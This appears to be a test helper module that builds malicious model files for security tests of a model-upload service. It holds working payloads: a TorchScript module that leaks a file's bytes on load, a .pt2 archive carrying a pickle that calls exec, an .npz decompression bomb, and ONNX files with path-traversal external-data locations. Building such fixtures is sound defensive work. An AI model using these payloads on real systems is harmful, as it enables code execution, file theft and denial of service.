"""Hostile uploads for the security tests, built at test time (never committed).

- `torchscript_key_thief`: a TorchScript module whose `__setstate__` (run by `torch.jit.load`)
  reads a file with `torch.from_file` and raises its bytes as the error message.
- `pt2_pickle_payload`: a valid `.pt2` whose tensor constant is switched to `use_pickle: true`
  and replaced by a pickle that calls `exec(code)` — `torch.export.load` unpickles it.
- `npz_bomb`: 1.9 MB of deflated zeros declaring a 40000×1×3×64×64 float32 array (1.96 GB),
  written in streamed chunks and cached under ~/.cache/modelfleet/security.
- `onnx_constant_external_data`: an ONNX whose `Constant` node tensor says
  `location=../../etc/hostname`.
- `onnx_external_data_behind_a_group`: an ONNX whose initializer has an unknown group field
  (wire types 3/4, which protobuf skips) before its `data_location=EXTERNAL`.
"""

from __future__ import annotations

import json
import pickle
import zipfile
from pathlib import Path

import numpy as np

CACHE = Path.home() / ".cache" / "modelfleet" / "security"
BOMB_SHAPE = (40000, 1, 3, 64, 64)


def torchscript_key_thief(out: Path, secret: Path) -> Path:
    """forward(x) = x * w over x of shape (1, 4); loading it raises "LEAK:<file bytes>"."""
    import torch

    size = secret.stat().st_size
    src = f'''
import torch
from typing import List, Tuple

class Thief(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(4))
        self.path = {str(secret)!r}
        self.size = {size}

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, str, int, bool]:
        return (self.w, self.path, self.size, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, str, int, bool]) -> None:
        self.w = state[0]
        self.path = state[1]
        self.size = state[2]
        self.training = state[3]
        data = torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)
        codes: List[int] = data.long().tolist()
        chars: List[str] = []
        for c in codes:
            chars.append(chr(c))
        raise Exception("LEAK:" + "".join(chars))
'''
    namespace: dict[str, object] = {}
    module_file = out.with_suffix(".src.py")
    module_file.write_text(src)  # TorchScript needs the source on disk to compile it
    exec(compile(src, str(module_file), "exec"), namespace)
    scripted = torch.jit.script(namespace["Thief"]())  # type: ignore[operator]
    torch.jit.save(scripted, str(out))
    return out


class _Exec:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.code,))


def pt2_pickle_payload(out: Path, code: str) -> Path:
    """A `.pt2` of forward(x) = x * c (x: (1, 4)) whose constant `c` unpickles to exec(code)."""
    import torch

    class WithConstant(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.c = torch.ones(4)  # a plain attribute: exported as a lifted tensor constant

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * self.c

    clean = out.with_suffix(".clean.pt2")
    torch.export.save(torch.export.export(WithConstant(), (torch.zeros(1, 4),)), str(clean))
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith("data/constants/model_constants_config.json"):
                config = json.loads(data)
                config["config"]["c"]["use_pickle"] = True
                data = json.dumps(config).encode()
            elif info.filename.endswith("data/constants/tensor_0"):
                data = pickle.dumps(_Exec(code), protocol=2)
            zout.writestr(info, data)
    clean.unlink()
    return out


def npz_bomb() -> Path:
    """The reference .npz bomb, made once (streamed: never holds the 1.96 GB in memory)."""
    path = CACHE / "npz-bomb-40000x1x3x64x64.npz"
    if path.exists():
        return path
    from numpy.lib import format as npy_format

    CACHE.mkdir(parents=True, exist_ok=True)
    tmp = path.with_suffix(".partial")
    header = {"descr": "<f4", "fortran_order": False, "shape": BOMB_SHAPE}
    chunk = bytes(16 << 20)
    total = int(np.prod(BOMB_SHAPE)) * 4
    with zipfile.ZipFile(tmp, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z, \
            z.open("image.npy", "w", force_zip64=True) as member:
        npy_format.write_array_header_1_0(member, header)  # type: ignore[no-untyped-call]
        written = 0
        while written < total:
            n = min(len(chunk), total - written)
            member.write(chunk[:n])
            written += n
    tmp.rename(path)
    return path


def onnx_constant_external_data(out: Path, location: str = "../../etc/hostname") -> Path:
    """y = x + c over x: (1, 4), where the Constant node's tensor lives "at" `location`."""
    from onnx import TensorProto, helper, numpy_helper

    tensor = numpy_helper.from_array(np.ones((1, 4), np.float32), "c")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("Constant", [], ["c"], value=tensor),
         helper.make_node("Add", ["x", "c"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
    out.write_bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
                    .SerializeToString())
    return out


def _tag(number: int, wire: int) -> bytes:
    return _varint(number << 3 | wire)


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def onnx_external_data_behind_a_group(out: Path, location: str) -> Path:
    """y = x + w over x: (1, 4), where the initializer `w` first carries an unknown group
    field and only then `data_location = EXTERNAL` with `location`. The bytes are framed
    here: protobuf's own encoder writes unknown fields last, after the known ones."""
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    head = TensorProto(name="w", dims=[1, 4], data_type=TensorProto.FLOAT).SerializeToString()
    group = _tag(99, 3) + _tag(1, 0) + _varint(7) + _tag(99, 4)  # field 99: a group
    external = TensorProto(data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = external.external_data.add()
        entry.key, entry.value = key, value
    tensor = head + group + external.SerializeToString()
    initializer = _tag(5, 2) + _varint(len(tensor)) + tensor  # GraphProto.initializer
    # A second ModelProto.graph field: protobuf merges it into the first.
    extra_graph = _tag(7, 2) + _varint(len(initializer)) + initializer
    out.write_bytes(model.SerializeToString() + extra_graph)
    return out
